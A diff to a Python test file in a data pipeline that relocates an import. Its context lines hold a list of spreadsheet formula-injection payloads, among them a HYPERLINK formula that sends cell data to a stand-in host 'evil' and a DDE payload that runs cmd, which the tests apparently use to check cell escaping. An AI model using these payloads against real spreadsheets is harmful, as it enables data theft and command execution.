@@ -7,10 +7,10 @@ import pytest
 
 from pipeline import evaluate
 from pipeline.core.paths import CHECKS
+from pipeline.evaluation.answered import read_answers
 from pipeline.pages.tables import table
 from pipeline.tables.cells import as_named, as_text
 from pipeline.tables.manifest import write_manifest
-from pipeline.tasks.answered import read_answers
 
 NAMES = ['=HYPERLINK("http://evil/"&A1)', "-2+3+cmd|' /C calc'!A0", "+x", "@SUM(A1)", "\t=1", "＝1"]
 QUOTED = ["'=x", "''=x"]
